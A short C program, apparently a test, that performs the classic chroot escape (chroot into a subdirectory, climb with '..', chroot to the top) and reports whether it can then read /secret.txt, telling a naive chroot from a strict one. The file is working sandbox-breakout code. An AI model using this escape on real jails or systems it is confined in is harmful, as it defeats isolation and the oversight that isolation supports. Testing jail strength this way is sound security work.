/* The classic chroot escape: jailed in /jail, make a subdirectory, chroot into it
   without moving the current directory, climb with "..", and chroot to where the
   climb ended. A naive chroot lets it read /secret.txt; a strict one does not. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static void show(const char *what) {
    char cwd[256];
    printf("%s: cwd %s\n", what, getcwd(cwd, sizeof cwd) ? cwd : "(error)");
}

int main(void) {
    if (chroot("/jail") != 0 || chdir("/") != 0) { perror("jail"); return 1; }
    show("jailed");
    FILE *f = fopen("/secret.txt", "r");
    printf("inside the jail, /secret.txt is %s\n", f ? "readable" : "not there");
    mkdir("x", 0755);
    if (chroot("x") != 0) { perror("chroot x"); return 2; }
    show("after chroot(\"x\")");
    for (int i = 0; i < 8; i++) chdir("..");
    show("after climbing");
    chroot(".");
    f = fopen("/secret.txt", "r");
    if (!f) { printf("escape failed: /secret.txt is not there\n"); return 0; }
    char line[100];
    if (fgets(line, sizeof line, f)) printf("escaped! /secret.txt says: %s", line);
    return 3;
}
